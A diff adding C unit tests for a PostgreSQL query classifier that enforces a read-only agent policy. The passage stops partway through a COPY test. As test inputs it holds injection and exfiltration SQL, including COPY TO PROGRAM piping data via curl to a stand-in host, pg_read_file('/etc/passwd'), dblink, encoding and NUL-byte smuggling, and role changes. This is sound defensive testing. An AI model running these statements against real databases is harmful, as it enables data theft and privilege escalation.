@@ -1,0 +1,1124 @@
+// SPDX-License-Identifier: Apache-2.0
+/*
+ * Unit tests for userspace/pg_classify.c (and pg_classify_json.c,
+ * pg_funcs.c).
+ *
+ * The reference policy is the one of /work/shared/cases/sql.txt: role
+ * agent_ro may SELECT public.customers and public.orders, with
+ * customers.email and customers.cc masked. Every S-case of that file is a
+ * row of sql_cases[] (verdict, class and tables); the D-cases that reach
+ * the classifier (D07, D09, D11) are tests of their own. Then the ways
+ * around each rule. Texts are judged from a heap copy of exactly their
+ * length, so ASan sees any read past the end.
+ *
+ *   test_pg_classify                      run the tests
+ *   test_pg_classify --write-corpus DIR   also write every SQL text to DIR
+ */
+#include "pg_classify.h"
+#include "unit.h"
+
+#include <pthread.h>
+#include <stdbool.h>
+#include <stdlib.h>
+
+bool pgc_builtin_list_sorted(void);
+
+/* ---- rules built by hand (the shape policy_load.c produces) ---- */
+
+static char *ro_stmts[] = { "select" };
+static char *ro_tables[] = { "public.customers", "public.orders" };
+static struct policy_rule ro_rule = {
+	.target = "db", .role = "agent_ro",
+	.allow = { .present = true, .statements = { ro_stmts, 1 }, .tables = { ro_tables, 2 } },
+};
+static const struct policy_rule *ro[] = { &ro_rule };
+
+static char *rw_stmts[] = { "read", "write" };
+static struct policy_rule rw_rule = {
+	.target = "db", .role = "agent_rw",
+	.allow = { .present = true, .statements = { rw_stmts, 2 }, .tables = { ro_tables, 2 } },
+};
+static const struct policy_rule *rw[] = { &rw_rule };
+
+static bool mask_pred(void *arg, const char *schema, const char *table, const char *column)
+{
+	int *calls = arg;
+
+	if (calls)
+		(*calls)++;
+	if (strcmp(schema, "public") != 0 || strcmp(table, "customers") != 0)
+		return false;
+	return !column || strcmp(column, "email") == 0 || strcmp(column, "cc") == 0;
+}
+
+static struct pgc_ctx ctx = { .search_path = "public", .column_masked = mask_pred };
+
+static int seed_no;
+
+static int judge_with(const struct pgc_ctx *c, const char *sql, size_t len,
+		      const struct policy_rule *const *rules, size_t n, struct pgc_result *r)
+{
+	char *copy = malloc(len ? len : 1);
+	char name[32];
+	int rc;
+
+	if (!copy)
+		abort();
+	memcpy(copy, sql, len);
+	snprintf(name, sizeof(name), "unit-%03d", seed_no++);
+	if (len <= 4096)        /* the huge texts of test_limits are no seeds */
+		unit_seed(name, sql, len);
+	rc = pgc_judge(c, copy, len, rules, n, r);
+	free(copy);
+	CHECK(rc == 0);
+	CHECK(r->verdict == PGC_DENY || r->verdict == PGC_ALLOW || r->verdict == PGC_REVIEW);
+	CHECK(r->ntables >= 0 && r->ntables <= PGC_MAX_TABLES);
+	CHECK(memchr(r->reason, '\0', sizeof(r->reason)) != NULL);
+	CHECK(memchr(r->tag, '\0', sizeof(r->tag)) != NULL);
+	/* a denial always says why; an allow never carries a reason */
+	CHECK((r->verdict == PGC_DENY) == (r->reason[0] != '\0'));
+	return rc;
+}
+
+static struct pgc_result judge_rules(const char *sql, const struct policy_rule *const *rules,
+				     size_t n)
+{
+	struct pgc_result r;
+
+	judge_with(&ctx, sql, strlen(sql), rules, n, &r);
+	return r;
+}
+
+static struct pgc_result judge(const char *sql)
+{
+	return judge_rules(sql, ro, 1);
+}
+
+static bool has_table(const struct pgc_result *r, const char *t)
+{
+	for (int i = 0; i < r->ntables; i++)
+		if (strcmp(r->tables[i], t) == 0)
+			return true;
+	return false;
+}
+
+/* tables as "a,b" in the order recorded */
+static void tables_str(const struct pgc_result *r, char *out, size_t len)
+{
+	size_t o = 0;
+
+	out[0] = '\0';
+	for (int i = 0; i < r->ntables && o < len; i++)
+		o += (size_t)snprintf(out + o, len - o, "%s%s", i ? "," : "", r->tables[i]);
+}
+
+#define EXPECT(sql, v) do { \
+	struct pgc_result r_ = judge(sql); \
+	if (r_.verdict != (v)) \
+		fprintf(stderr, "  %s: got %d (%s), want %d\n", sql, r_.verdict, r_.reason, v); \
+	CHECK(r_.verdict == (v)); \
+} while (0)
+
+#define EXPECT_REASON(sql, v, frag) do { \
+	struct pgc_result r_ = judge(sql); \
+	if (r_.verdict != (v) || !strstr(r_.reason, frag)) \
+		fprintf(stderr, "  %s: got %d (%s), want %d '%s'\n", sql, r_.verdict, r_.reason, \
+			v, frag); \
+	CHECK(r_.verdict == (v)); \
+	CHECK(strstr(r_.reason, frag) != NULL); \
+} while (0)
+
+/* ---- every S-case of /work/shared/cases/sql.txt ---- */
+
+struct sql_case {
+	const char *id;
+	enum pgc_verdict v;
+	int cls;                       /* -1: not checked (denied before classifying) */
+	const char *tables;            /* NULL: not checked */
+	const char *sql;
+};
+
+static const struct sql_case sql_cases[] = {
+	{ "S01", PGC_ALLOW, PGC_READ, "public.customers",
+	  "SELECT id, email, cc FROM customers WHERE id = 1" },
+	{ "S03", PGC_DENY, PGC_WRITE, "public.customers,public.orders",
+	  "SELECT * FROM customers; DELETE FROM orders" },
+	{ "S05", PGC_DENY, PGC_WRITE, "public.orders",
+	  "WITH r AS (SELECT 1), u AS (UPDATE orders SET total = 0 RETURNING 1) SELECT * FROM r" },
+	{ "S07", PGC_DENY, PGC_WRITE, "public.orders",
+	  "SELECT * FROM orders FOR NO KEY UPDATE SKIP LOCKED" },
+	{ "S09", PGC_DENY, PGC_DDL, "pg_temp.stolen,public.customers",
+	  "SELECT * INTO TEMP stolen FROM customers" },
+	{ "S11", PGC_DENY, PGC_DDL, "public.mv,public.customers",
+	  "CREATE MATERIALIZED VIEW mv AS SELECT * FROM customers" },
+	{ "S13", PGC_DENY, PGC_READ, "public.customers",
+	  "COPY (SELECT * FROM customers) TO STDOUT WITH (FORMAT binary)" },
+	{ "S15", PGC_DENY, PGC_READ, "", "COPY customers TO PROGRAM 'curl -d @- http://evil'" },
+	{ "S17", PGC_DENY, PGC_READ, "", "COPY customers TO '/tmp/x.csv'" },
+	{ "S19", PGC_DENY, PGC_ADMIN, "", "DO $$ BEGIN EXECUTE 'DEL' || 'ETE FROM orders'; END $$" },
+	{ "S21", PGC_DENY, PGC_READ, "", "SELECT pg_read_file('/etc/passwd')" },
+	{ "S23", PGC_DENY, PGC_READ, "", "SELECT * FROM pg_ls_dir('.')" },
+	{ "S25", PGC_DENY, PGC_READ, "", "SELECT lo_import('/etc/passwd')" },
+	{ "S27", PGC_DENY, PGC_READ, "",
+	  "SELECT * FROM dblink('host=127.0.0.1 dbname=x', 'DELETE FROM orders') AS t(x text)" },
+	{ "S29", PGC_DENY, PGC_READ, "",
+	  "SELECT set_config('standard_conforming_strings', 'off', false)" },
+	{ "S31", PGC_DENY, PGC_READ, NULL,
+	  "SELECT set_config('application_name', (SELECT cc FROM customers LIMIT 1), false)" },
+	{ "S33", PGC_DENY, PGC_READ, "", "SELECT setval('orders_id_seq', 1)" },
+	{ "S35", PGC_DENY, PGC_READ, "", "SELECT query_to_xml('SELECT cc FROM secrets', true, false, '')" },
+	{ "S37", PGC_DENY, PGC_READ, "",
+	  "SELECT query_to_xml('SELECT harmless_looking()', true, false, '')" },
+	{ "S39", PGC_DENY, PGC_READ, "public.orders",
+	  "SELECT * FROM orders WHERE id = harmless_looking()" },
+	{ "S41", PGC_DENY, PGC_UTILITY, "", "EXECUTE p(1)" },
+	{ "S43", PGC_DENY, PGC_READ, "", "FETCH ALL FROM c" },
+	{ "S45", PGC_DENY, PGC_UTILITY, "", "SET SESSION AUTHORIZATION postgres" },
+	{ "S47", PGC_DENY, PGC_UTILITY, "", "SET standard_conforming_strings = off" },
+	{ "S49", PGC_DENY, PGC_UTILITY, "", "SET default_transaction_read_only = off" },
+	{ "S51", PGC_DENY, PGC_UTILITY, "", "RESET ALL" },
+	{ "S53", PGC_DENY, PGC_WRITE, "public.orders", "EXPLAIN DELETE FROM orders" },
+	{ "S55", PGC_DENY, PGC_WRITE, "public.orders",
+	  "EXPLAIN (ANALYZE, FORMAT JSON) WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d" },
+	{ "S57", PGC_DENY, PGC_UTILITY, "", "NOTIFY ch, 'payload'" },
+	{ "S59", PGC_DENY, PGC_ADMIN, "public.orders", "VACUUM FULL orders" },
+	{ "S61", PGC_DENY, PGC_WRITE, "", "CALL do_something(1)" },
+	{ "S63", PGC_DENY, PGC_WRITE, "public.orders", "TRUNCATE orders" },
+	{ "S65", PGC_DENY, PGC_WRITE, "public.orders", "INSERT INTO orders SELECT * FROM orders" },
+	{ "S67", PGC_DENY, PGC_WRITE, "public.orders", "/* SELECT */ DELETE FROM orders" },
+	{ "S69", PGC_ALLOW, PGC_READ, "", "SELECT $q$; DELETE FROM orders; $q$" },
+	{ "S71", PGC_ALLOW, PGC_READ, "public.customers", "SELECT * FROM \"public\".\"customers\"" },
+	{ "S73", PGC_DENY, PGC_READ, "public.Customers", "SELECT * FROM \"Customers\"" },
+	{ "S75", PGC_DENY, PGC_READ, "public.secrets", "SELECT * FROM U&\"!0073ecrets\" UESCAPE '!'" },
+	{ "S77", PGC_DENY, PGC_READ, "public.customers,public.secrets",
+	  "SELECT id FROM customers UNION ALL SELECT id FROM secrets" },
+	{ "S79", PGC_DENY, PGC_READ, "public.customers,public.secrets",
+	  "SELECT * FROM customers WHERE id IN (SELECT id FROM secrets)" },
+	{ "S81", PGC_DENY, PGC_READ, "public.secrets", "VALUES ((SELECT cc FROM secrets LIMIT 1))" },
+	{ "S83", PGC_DENY, PGC_READ, "pg_catalog.pg_authid", "SELECT * FROM pg_catalog.pg_authid" },
+	{ "S85", PGC_ALLOW, PGC_READ, "public.customers", "SELECT * FROM ONLY customers" },
+	{ "S87", PGC_ALLOW, PGC_READ, "public.customers", "SELECT cc AS x FROM customers" },
+	{ "S89", PGC_DENY, PGC_READ, "public.customers", "SELECT row_to_json(c) FROM customers c" },
+	{ "S91", PGC_DENY, PGC_READ, "public.customers", "SELECT cc::int FROM customers" },
+	{ "S93", PGC_ALLOW, PGC_READ, "public.customers", "SELECT * FROM customers AS secrets" },
+	{ "S95", PGC_DENY, PGC_DDL, "",
+	  "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM orders RETURNING 1'" },
+	{ "S97", PGC_DENY, PGC_ADMIN, NULL, "GRANT ALL ON orders TO public" },
+	{ "S99", PGC_DENY, -1, "",
+	  "SELECT * FROM JSON_TABLE('[1]', '$[*]' COLUMNS (a int PATH '$'))" },
+};
+
+static void test_sql_cases(void)
+{
+	for (size_t i = 0; i < sizeof(sql_cases) / sizeof(sql_cases[0]); i++) {
+		const struct sql_case *c = &sql_cases[i];
+		struct pgc_result r = judge(c->sql);
+		char tables[1024];
+		bool ok = true;
+
+		tables_str(&r, tables, sizeof(tables));
+		ok &= r.verdict == c->v;
+		ok &= c->cls < 0 || (int)r.cls == c->cls;
+		ok &= !c->tables || strcmp(tables, c->tables) == 0;
+		ok &= r.nstmts >= (c->cls < 0 ? 0 : 1);
+		if (!ok)
+			fprintf(stderr, "  %s: verdict %d class %s tables '%s' reason '%s'\n", c->id,
+				r.verdict, pgc_class_name(r.cls), tables, r.reason);
+		CHECK(ok);
+	}
+}
+
+static void test_case_reasons(void)
+{
+	EXPECT_REASON("SELECT pg_read_file('/etc/passwd')", PGC_DENY, "function pg_read_file not allowed");
+	EXPECT_REASON("SELECT * FROM orders WHERE id = harmless_looking()", PGC_DENY,
+		      "function harmless_looking not allowed");
+	EXPECT_REASON("SELECT * FROM secrets", PGC_DENY, "table public.secrets not allowed");
+	EXPECT_REASON("DELETE FROM orders", PGC_DENY, "statement delete not allowed");
+	EXPECT_REASON("SELECT * FROM JSON_TABLE('[1]', '$[*]' COLUMNS (a int PATH '$'))", PGC_DENY,
+		      "parse error at position");
+	EXPECT_REASON("SELECT row_to_json(c) FROM customers c", PGC_DENY, "whole-row");
+	EXPECT_REASON("SELECT cc::int FROM customers", PGC_DENY, "masked column cc");
+	EXPECT_REASON("DO $$ BEGIN NULL; END $$", PGC_DENY, "DO blocks");
+	EXPECT_REASON("COPY orders TO STDOUT", PGC_DENY, "needs a rule naming copy");
+}
+
+/* The D-cases that reach the classifier. */
+static void test_protocol_cases(void)
+{
+	struct pgc_result r;
+	/* D07: SJIS bytes, invalid as UTF-8 */
+	static const char d07[] = "SELECT E'\x95\x5c'; DELETE FROM orders WHERE id=1; --'";
+	/* D11: bytes after a NUL */
+	static const char d11[] = "SELECT 1\0DELETE FROM orders\0";
+
+	judge_with(&ctx, d07, sizeof(d07) - 1, ro, 1, &r);
+	CHECK(r.verdict == PGC_DENY && strstr(r.reason, "UTF-8"));
+	judge_with(&ctx, d11, sizeof(d11) - 1, ro, 1, &r);
+	CHECK(r.verdict == PGC_DENY && strstr(r.reason, "NUL"));
+	/* D09: the set_config is denied; with scs pinned on, the exploit
+	 * text is one SELECT of a string constant (the server agrees). */
+	r = judge("SELECT set_config('standard_conforming_strings','off',false)");
+	CHECK(r.verdict == PGC_DENY);
+	r = judge("SELECT 'a\\'' ; DELETE FROM orders; --'");
+	CHECK(r.verdict == PGC_ALLOW && r.nstmts == 1);
+	r = judge("SELECT cc FROM customers");
+	CHECK(r.verdict == PGC_ALLOW);
+}
+
+/* ---- ways around: lexing ---- */
+
+static void test_lexing(void)
+{
+	struct pgc_result r;
+
+	EXPECT("SELECT 1 -- ; DELETE FROM orders", PGC_ALLOW);
+	r = judge("SELECT 1; /* ; */ DELETE FROM orders");
+	CHECK(r.verdict == PGC_DENY && r.nstmts == 2);
+	EXPECT("SELECT /* nested /* comment */ DELETE */ 1", PGC_ALLOW);
+	EXPECT("SELECT $$; DELETE FROM orders; $$", PGC_ALLOW);
+	EXPECT("SELECT $a$ $b$; DELETE FROM orders; $b$ $a$", PGC_ALLOW);
+	/* E'' strings: backslash escapes apply; the server sees two statements */
+	r = judge("SELECT E'\\\\'; DELETE FROM orders; --'");
+	CHECK(r.verdict == PGC_DENY && r.nstmts == 2);
+	r = judge("SELECT E'\\''; DELETE FROM orders");
+	CHECK(r.verdict == PGC_DENY && r.nstmts == 2);
+	/* unicode escapes in identifiers decode to the real name */
+	r = judge("SELECT id FROM U&\"cust\\006Fmers\"");
+	CHECK(r.verdict == PGC_ALLOW && has_table(&r, "public.customers"));
+	r = judge("SELECT id FROM U&\"\\0073ecrets\"");
+	CHECK(r.verdict == PGC_DENY && has_table(&r, "public.secrets"));
+	EXPECT("SELECT U&'\\0041'", PGC_ALLOW);
+	EXPECT("", PGC_ALLOW);
+	EXPECT(";", PGC_ALLOW);
+	EXPECT("-- only a comment", PGC_ALLOW);
+	r = judge("SELECT 1; SELECT 2; SELECT id FROM orders");
+	CHECK(r.verdict == PGC_ALLOW && r.nstmts == 3 && r.rule == &ro_rule);
+	CHECK_STR(r.tag, "select");
+}
+
+/* ---- ways around: names ---- */
+
+static void test_names(void)
+{
+	struct pgc_result r;
+
+	/* CTE names shadow tables, but only unqualified and only in scope */
+	r = judge("WITH secrets AS (SELECT 1 AS x) SELECT * FROM secrets");
+	CHECK(r.verdict == PGC_ALLOW && r.ntables == 0);
+	EXPECT("SELECT * FROM secrets", PGC_DENY);
+	r = judge("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets");
+	CHECK(r.verdict == PGC_DENY && has_table(&r, "public.secrets"));
+	EXPECT("WITH secrets AS (SELECT 1) SELECT * FROM public.secrets", PGC_DENY);
+	EXPECT("WITH RECURSIVE secrets(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM secrets "
+	       "WHERE n < 3) SELECT * FROM secrets", PGC_ALLOW);
+	EXPECT("SELECT (WITH secrets AS (SELECT 1) SELECT 1), * FROM secrets", PGC_DENY);
+	/* schema-qualified vs unqualified */
+	EXPECT("SELECT * FROM public.orders", PGC_ALLOW);
+	r = judge("SELECT * FROM other.orders");
+	CHECK(r.verdict == PGC_DENY && has_table(&r, "other.orders"));
+	EXPECT("SELECT * FROM PUBLIC.CUSTOMERS", PGC_ALLOW);
+	r = judge("SELECT * FROM \"Public\".\"T\"");
+	CHECK(r.verdict == PGC_DENY && has_table(&r, "Public.T"));
+	EXPECT_REASON("SELECT * FROM \"public.customers\"", PGC_DENY, "'.'");
+	EXPECT_REASON("SELECT * FROM \"public\".\"customers.x\"", PGC_DENY, "'.'");
+	EXPECT_REASON("SELECT * FROM db.public.orders", PGC_DENY, "cross-database");
+	/* implicit schemas */
+	r = judge("SELECT * FROM pg_authid");
+	CHECK(r.verdict == PGC_DENY && has_table(&r, "pg_catalog.pg_authid"));
+	r = judge("SELECT * FROM pg_temp.orders");
+	CHECK(r.verdict == PGC_DENY && has_table(&r, "pg_temp.orders"));
+	r = judge("SELECT * FROM information_schema.tables");
+	CHECK(r.verdict == PGC_DENY && has_table(&r, "information_schema.tables"));
+	/* a different pinned schema */
+	{
+		struct pgc_ctx c2 = ctx;
+		struct pgc_result r2;
+
+		c2.search_path = "app";
+		judge_with(&c2, "SELECT * FROM orders", 20, ro, 1, &r2);
+		CHECK(r2.verdict == PGC_DENY && has_table(&r2, "app.orders"));
+	}
+	/* aliases do not change the relation */
+	r = judge("SELECT s.id FROM secrets AS customers JOIN customers s ON true");
+	CHECK(r.verdict == PGC_DENY && has_table(&r, "public.secrets"));
+	/* LATERAL, joins and subqueries see every relation */
+	EXPECT("SELECT * FROM orders o, LATERAL (SELECT * FROM secrets s WHERE s.id = o.id) x",
+	       PGC_DENY);
+	EXPECT("SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM secrets)", PGC_DENY);
+	EXPECT("SELECT id FROM orders ORDER BY (SELECT max(id) FROM secrets)", PGC_DENY);
+	EXPECT("SELECT * FROM orders TABLESAMPLE bernoulli(10)", PGC_ALLOW);
+	EXPECT("SELECT * FROM orders TABLESAMPLE evil(10)", PGC_DENY);
+}
+
+/* ---- ways around: functions and operators ---- */
+
+static void test_functions(void)
+{
+	struct pgc_result r;
+	static char *fn_stmts[] = { "select" };
+	static char *fn_funcs[] = { "harmless_looking", "public.audited" };
+	struct policy_rule fr = {
+		.target = "db", .role = "fn",
+		.allow = { .present = true, .statements = { fn_stmts, 1 },
+			   .tables = { ro_tables, 2 }, .functions = { fn_funcs, 2 } },
+	};
+	const struct policy_rule *frs[] = { &fr };
+
+	CHECK(pgc_builtin_list_sorted());
+	CHECK(pgc_builtin_function_safe("lower"));
+	CHECK(!pgc_builtin_function_safe("pg_read_file"));
+	CHECK(!pgc_builtin_function_safe("set_config"));
+	CHECK(!pgc_builtin_function_safe("query_to_xml"));
+	EXPECT("SELECT lower('A'), pg_catalog.upper('b'), now(), count(*) FROM orders", PGC_ALLOW);
+	EXPECT("SELECT EXTRACT(year FROM now()), substring('abc' FROM 2), trim(' x ')", PGC_ALLOW);
+	/* SQL syntax the grammar turns into pg_catalog calls */
+	EXPECT("SELECT 'a' LIKE 'b' ESCAPE 'c', 'a' SIMILAR TO 'b', now() AT TIME ZONE 'UTC', "
+	       "COLLATION FOR ('x'), 'a' IS NORMALIZED, (now(), now()) OVERLAPS (now(), now()), "
+	       "overlay('a' placing 'b' from 1), position('a' in 'b'), trim(both 'x' from 'y'), "
+	       "substring('a' similar 'b' escape 'c'), normalize('a'), CURRENT_TIMESTAMP, "
+	       "current_user, coalesce(null, 1), greatest(1, 2), nullif(1, 2), "
+	       "CASE WHEN true THEN 1 END, ARRAY[1, 2], '{1}'::int[], 'a' ~ 'b', 'x' ILIKE 'y'",
+	       PGC_ALLOW);
+	EXPECT("SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total) FROM orders", PGC_ALLOW);
+	EXPECT_REASON("SELECT pg_catalog.pg_read_file('x')", PGC_DENY, "pg_catalog.pg_read_file");
+	EXPECT_REASON("SELECT public.lower('x')", PGC_DENY, "public.lower");
+	EXPECT_REASON("SELECT id, set_config('search_path', 'evil', false) FROM orders", PGC_DENY,
+		      "set_config");
+	EXPECT("SELECT pg_catalog.set_config('role', 'x', true)", PGC_DENY);
+	EXPECT("SELECT nextval('s')", PGC_DENY);
+	EXPECT("SELECT pg_sleep(10)", PGC_DENY);
+	EXPECT("SELECT pg_notify('x', 'y')", PGC_DENY);
+	EXPECT("SELECT pg_advisory_lock(1)", PGC_DENY);
+	EXPECT("SELECT x FROM generate_series(1, 3) x", PGC_ALLOW);
+	EXPECT("SELECT * FROM orders WHERE id = ANY(SELECT evil())", PGC_DENY);
+	EXPECT("SELECT count(*) FILTER (WHERE evil()) FROM orders", PGC_DENY);
+	EXPECT("SELECT sum(total) OVER (ORDER BY evil()) FROM orders", PGC_DENY);
+	EXPECT("SELECT a.b.c.d()", PGC_DENY);
+	EXPECT("SELECT 1 OPERATOR(public.+) 1", PGC_DENY);
+	EXPECT("SELECT 1 OPERATOR(pg_catalog.+) 1", PGC_ALLOW);
+	EXPECT("SELECT 'x'::regclass", PGC_ALLOW);
+	/* policy functions: add to the list */
+	r = judge_rules("SELECT * FROM orders WHERE id = harmless_looking()", frs, 1);
+	CHECK(r.verdict == PGC_ALLOW && r.rule == &fr);
+	r = judge_rules("SELECT public.harmless_looking()", frs, 1);
+	CHECK(r.verdict == PGC_ALLOW);
+	r = judge_rules("SELECT audited(1), public.audited(2)", frs, 1);
+	CHECK(r.verdict == PGC_ALLOW);
+	r = judge_rules("SELECT other.audited(1)", frs, 1);
+	CHECK(r.verdict == PGC_DENY);
+	r = judge_rules("SELECT set_config('application_name', 'x', false)", frs, 1);
+	CHECK(r.verdict == PGC_DENY);
+}
+
+/* ---- ways around: statements, classes, transactions ---- */
+
+static void test_statements(void)
+{
+	struct pgc_result r;
+
+	r = judge("SELECT * FROM orders FOR UPDATE");
+	CHECK(r.verdict == PGC_DENY && r.cls == PGC_WRITE);
+	EXPECT("SELECT * FROM orders FOR SHARE", PGC_DENY);
+	EXPECT("SELECT * FROM orders FOR KEY SHARE OF orders NOWAIT", PGC_DENY);
+	EXPECT("SELECT * FROM (SELECT * FROM orders FOR UPDATE) x", PGC_DENY);
+	r = judge_rules("SELECT * FROM orders o FOR UPDATE OF o", rw, 1);
+	CHECK(r.verdict == PGC_ALLOW && r.cls == PGC_WRITE && r.ntables == 1);
+	r = judge("EXPLAIN ANALYZE DELETE FROM orders");
+	CHECK(r.verdict == PGC_DENY && r.cls == PGC_WRITE);
+	CHECK_STR(r.tag, "explain");
+	r = judge("EXPLAIN SELECT * FROM orders");
+	CHECK(r.verdict == PGC_ALLOW && r.cls == PGC_READ);
+	CHECK_STR(r.tag, "explain");
+	EXPECT("EXPLAIN (ANALYZE false) UPDATE orders SET total = 1", PGC_DENY);
+	EXPECT("EXPLAIN SELECT * FROM secrets", PGC_DENY);
+	EXPECT("EXPLAIN CREATE TABLE x AS SELECT 1", PGC_DENY);
+	EXPECT("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", PGC_DENY);
+	EXPECT("WITH d AS (INSERT INTO orders VALUES (1) RETURNING id) SELECT 1", PGC_DENY);
+	EXPECT("SELECT * INTO stolen FROM orders", PGC_DENY);
+	{
+		static char *ds[] = { "select", "ddl" };
+		static char *dt[] = { "public.orders" };
+		struct policy_rule dr = { .target = "db", .allow = { .present = true,
+			.statements = { ds, 2 }, .tables = { dt, 1 } } };
+		const struct policy_rule *drs[] = { &dr };
+
+		/* the INTO target is a new table even when a CTE has its name */
+		r = judge_rules("WITH x AS (SELECT 1) SELECT * INTO x FROM orders", drs, 1);
+		CHECK(r.verdict == PGC_DENY && has_table(&r, "public.x"));
+		r = judge_rules("SELECT * INTO orders FROM orders", drs, 1);
+		CHECK(r.verdict == PGC_ALLOW && r.cls == PGC_DDL);
+		CHECK_STR(r.tag, "select_into");
+	}
+	EXPECT("CREATE TABLE x AS SELECT * FROM orders", PGC_DENY);
+	EXPECT("CREATE TEMP TABLE customers AS SELECT 1", PGC_DENY);
+	EXPECT("DECLARE c CURSOR FOR SELECT * FROM secrets", PGC_DENY);
+	r = judge("DECLARE c CURSOR WITH HOLD FOR SELECT * FROM orders");
+	CHECK(r.verdict == PGC_ALLOW);
+	CHECK_STR(r.tag, "declare_cursor");
+	EXPECT("MOVE NEXT IN c", PGC_DENY);
+	EXPECT("CLOSE c", PGC_ALLOW);
+	EXPECT("LISTEN ch", PGC_DENY);
+	EXPECT("UNLISTEN *", PGC_DENY);
+	EXPECT("PREPARE p AS SELECT * FROM orders", PGC_DENY);
+	EXPECT("DEALLOCATE ALL", PGC_DENY);
+	EXPECT("LOCK TABLE orders", PGC_DENY);
+	EXPECT("LOAD 'plpgsql'", PGC_DENY);
+	EXPECT("CHECKPOINT", PGC_DENY);
+	EXPECT("CREATE RULE r AS ON SELECT TO orders DO INSTEAD SELECT * FROM secrets", PGC_DENY);
+	EXPECT("MERGE INTO orders o USING orders s ON o.id = s.id WHEN MATCHED THEN DELETE",
+	       PGC_DENY);
+	r = judge_rules("UPDATE orders SET total = 0 WHERE id = 1", rw, 1);
+	CHECK(r.verdict == PGC_ALLOW && r.cls == PGC_WRITE && r.rule == &rw_rule);
+	CHECK_STR(r.tag, "update");
+	r = judge_rules("DELETE FROM orders o USING secrets s WHERE o.id = s.id", rw, 1);
+	CHECK(r.verdict == PGC_DENY && has_table(&r, "public.secrets"));
+	r = judge_rules("INSERT INTO orders (id) SELECT id FROM secrets", rw, 1);
+	CHECK(r.verdict == PGC_DENY);
+	r = judge_rules("INSERT INTO orders (id, total) VALUES (1, 2) ON CONFLICT (id) DO UPDATE "
+			"SET total = excluded.total", rw, 1);
+	CHECK(r.verdict == PGC_ALLOW);
+	CHECK_STR(r.tag, "insert");
+	/* CALL: opaque unless the policy names the procedure */
+	{
+		static char *cs[] = { "call" };
+		static char *cf[] = { "do_something" };
+		struct policy_rule cr = { .target = "db", .allow = { .present = true,
+			.statements = { cs, 1 }, .functions = { cf, 1 } } };
+		const struct policy_rule *crs[] = { &cr };
+
+		r = judge_rules("CALL do_something(1)", crs, 1);
+		CHECK(r.verdict == PGC_ALLOW);
+		r = judge_rules("CALL other(1)", crs, 1);
+		CHECK(r.verdict == PGC_DENY);
+		r = judge_rules("CALL lower('x')", crs, 1);   /* built-ins are not procedures */
+		CHECK(r.verdict == PGC_DENY);
+	}
+}
+
+static void test_transactions(void)
+{
+	struct pgc_result r;
+
+	r = judge("BEGIN");
+	CHECK(r.verdict == PGC_ALLOW && r.begins_tx && !r.ends_tx && r.cls == PGC_TRANSACTION);
+	CHECK(r.rule == NULL);
+	r = judge("BEGIN READ ONLY");
+	CHECK(r.verdict == PGC_ALLOW && r.begins_tx);
+	EXPECT_REASON("BEGIN READ WRITE", PGC_DENY, "read-write");
+	EXPECT("BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE", PGC_DENY);
+	EXPECT("START TRANSACTION READ WRITE", PGC_DENY);
+	EXPECT("SET TRANSACTION READ WRITE", PGC_DENY);
+	EXPECT("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", PGC_DENY);
+	EXPECT("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ", PGC_ALLOW);
+	EXPECT("SET transaction_read_only = off", PGC_DENY);
+	r = judge("COMMIT");
+	CHECK(r.verdict == PGC_ALLOW && r.ends_tx && !r.begins_tx);
+	r = judge("COMMIT AND CHAIN");
+	CHECK(r.verdict == PGC_ALLOW && r.ends_tx && r.begins_tx);
+	r = judge("BEGIN; SELECT * FROM orders; SAVEPOINT a; ROLLBACK TO a; RELEASE a; COMMIT");
+	CHECK(r.verdict == PGC_ALLOW && r.begins_tx && r.ends_tx && r.nstmts == 6);
+	CHECK(r.cls == PGC_READ && r.rule == &ro_rule);
+	EXPECT("PREPARE TRANSACTION 'x'", PGC_DENY);
+	EXPECT("COMMIT PREPARED 'x'", PGC_DENY);
+	r = judge_rules("BEGIN READ WRITE", rw, 1);
+	CHECK(r.verdict == PGC_ALLOW);
+	CHECK(!pgc_rules_may_write(ro, 1));
+	CHECK(pgc_rules_may_write(rw, 1));
+}
+
+static void test_settings(void)
+{
+	struct pgc_result r;
+
+	EXPECT("SET LOCAL search_path = evil, public", PGC_DENY);
+	EXPECT("SET search_path TO public", PGC_DENY);
+	EXPECT("SET SCHEMA 'evil'", PGC_DENY);
+	EXPECT("RESET search_path", PGC_DENY);
+	EXPECT("RESET ALL", PGC_DENY);
+	EXPECT("SET SESSION AUTHORIZATION DEFAULT", PGC_DENY);
+	EXPECT("RESET SESSION AUTHORIZATION", PGC_DENY);
+	EXPECT("SET ROLE postgres", PGC_DENY);
+	EXPECT("RESET ROLE", PGC_DENY);
+	EXPECT("SET NAMES 'SJIS'", PGC_DENY);
+	EXPECT("SET client_encoding = 'SJIS'", PGC_DENY);
+	EXPECT("SET standard_conforming_strings TO DEFAULT", PGC_DENY);
+	EXPECT("SET LOCAL standard_conforming_strings = off", PGC_DENY);
+	EXPECT("SET statement_timeout = 0", PGC_DENY);
+	EXPECT("SET \"my.custom\" = 'x'", PGC_DENY);
+	EXPECT("DISCARD ALL", PGC_DENY);
+	EXPECT("DISCARD PLANS", PGC_DENY);
+	EXPECT("ALTER ROLE me SET standard_conforming_strings = off", PGC_DENY);
+	EXPECT("ALTER DATABASE d SET search_path = evil", PGC_DENY);
+	EXPECT("ALTER SYSTEM SET client_encoding = 'SJIS'", PGC_DENY);
+	r = judge("SET application_name = 'report'");
+	CHECK(r.verdict == PGC_ALLOW && r.rule == NULL);
+	CHECK_STR(r.tag, "set");
+	EXPECT("SET TIME ZONE 'UTC'", PGC_ALLOW);
+	EXPECT("SET LOCAL datestyle = 'ISO'", PGC_ALLOW);
+	EXPECT("RESET extra_float_digits", PGC_ALLOW);
+	EXPECT("SHOW search_path", PGC_ALLOW);
+	/* a harmless SET does not make the rest of the message harmless */
+	EXPECT("SET application_name = 'x'; SELECT * FROM secrets", PGC_DENY);
+}
+
+static void test_copy(void)
+{
+	static char *cs[] = { "select", "copy" };
+	struct policy_rule cr = { .target = "db", .allow = { .present = true,
+		.statements = { cs, 2 }, .tables = { ro_tables, 2 } } };
